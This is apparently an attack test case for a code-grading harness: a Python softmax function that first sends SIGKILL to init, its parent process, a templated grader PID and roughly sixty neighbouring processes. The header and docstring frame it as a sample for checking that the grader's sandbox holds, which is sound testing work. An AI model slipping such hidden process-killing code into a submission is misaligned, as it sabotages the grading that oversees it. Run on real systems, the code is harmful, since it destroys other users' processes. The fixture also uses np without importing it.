# /// attack
# does = "kills its supervisor, its parent, a process of the grader's user and whatever has a number near its own"
# own = {}
# quick = true
# ///
"""Who kills the judge might end the grading of a class. Signals go to its own processes only."""

import contextlib
import os
import signal


def _kill(pid):
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.killpg(pid, signal.SIGKILL)
    with contextlib.suppress(OSError):
        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)


def softmax(logits):
    own = {os.getpid(), os.getpgrp()}
    for pid in {1, os.getppid(), int("@PID@"), *range(max(2, os.getpid() - 30), os.getpid() + 30)} - own:
        _kill(pid)
    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True)
